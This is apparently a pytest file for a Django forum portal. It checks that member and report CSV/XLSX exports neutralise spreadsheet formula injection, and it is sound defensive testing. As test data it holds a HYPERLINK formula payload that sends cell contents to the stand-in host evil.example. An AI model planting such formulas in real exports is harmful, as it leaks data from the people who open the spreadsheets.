"""Finding 4 of #13: no export writes a live formula; XLSX text is text and numbers stay numbers."""

import csv
import io
from datetime import datetime

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from forum.boards.models import Board
from forum.cases.models import Case
from portal.members.exports import cell_neutralise, csv_writer, xlsx_append
from portal.members.models import MemberProfile
from tests.conftest import make_topic
from tests.portal.conftest import staff_with

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击领取")'
CITY = '=HYPERLINK("http://e.x","上海")'  # fits the 40-character city field
TZ = timezone.get_fixed_timezone(480)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    assert cell_neutralise(f"{start}1+1") == f"'{start}1+1"


def test_plain_text_numbers_and_empty_cells_are_unchanged():
    assert cell_neutralise("翠湖天地 3栋") == "翠湖天地 3栋"
    assert cell_neutralise("a=b") == "a=b"
    assert cell_neutralise(-5) == -5
    assert cell_neutralise(2.5) == 2.5
    assert cell_neutralise(None) is None
    assert cell_neutralise("") == ""


def test_csv_writer_and_xlsx_append_share_the_rule():
    buffer = io.StringIO()
    csv_writer(buffer).writerows([[PAYLOAD, 3], ["-1", "ok"]])
    workbook = Workbook()
    xlsx_append(workbook.active, [PAYLOAD, 3, -2.5, None, "text"])
    xlsx_append(workbook.active, [])
    xlsx_append(workbook.active, ["@SUM(A1)"])
    data = io.BytesIO()
    workbook.save(data)
    sheet = load_workbook(io.BytesIO(data.getvalue())).active

    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["'" + PAYLOAD, "3"],
        ["'-1", "ok"],
    ]
    assert sheet["A1"].value == "'" + PAYLOAD and sheet["A1"].data_type == "s"
    assert (sheet["B1"].value, sheet["B1"].data_type) == (3, "n")
    assert (sheet["C1"].value, sheet["C1"].data_type) == (-2.5, "n")
    assert sheet["E1"].value == "text"
    assert sheet["A3"].value == "'@SUM(A1)" and sheet["A3"].data_type == "s"


def test_member_csv_export_neutralises_a_formula_city(client, member):
    MemberProfile.objects.filter(user=member).update(mobile="13812341234", city=CITY)
    exporter = staff_with("view_memberprofile", "export_members", username="exporter")
    client.force_login(exporter)

    response = client.get("/members/?export=csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    city = rows[0].index("city")
    row = next(r for r in rows[1:] if r[1] == member.username)
    assert row[city] == "'" + CITY
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_report_exports_neutralise_a_formula_title_and_keep_numbers(
    client, boards, member, moderator
):
    forum = boards[Board.Kind.COMPLAINTS].forum
    for subject in (PAYLOAD, "+86 电话打不通", "电梯故障"):
        topic = make_topic(forum=forum, poster=member, subject=subject)
        Case.objects.create(topic=topic, created_at=datetime(2026, 3, 2, 9, tzinfo=TZ))
    client.force_login(moderator)

    xlsx = client.get("/triage/reports/?month=2026-03&export=xlsx")
    csv_text = client.get("/triage/reports/?month=2026-03&export=csv").content.decode("utf-8-sig")

    workbook = load_workbook(io.BytesIO(xlsx.content))
    subjects = {c.value: c.data_type for c in workbook["cases"]["B"][1:]}
    assert subjects == {"'" + PAYLOAD: "s", "'+86 电话打不通": "s", "电梯故障": "s"}
    assert all(c.data_type == "n" for c in workbook["cases"]["A"][1:])
    cases_row = next(r for r in workbook["summary"].iter_rows() if r[0].value == "工单")
    assert (cases_row[1].value, cases_row[1].data_type) == (3, "n")
    assert not any(
        isinstance(c.value, str) and c.value.startswith("=")
        for sheet in workbook
        for row in sheet.iter_rows()
        for c in row
    )
    assert "\n工单,3\r\n" in csv_text
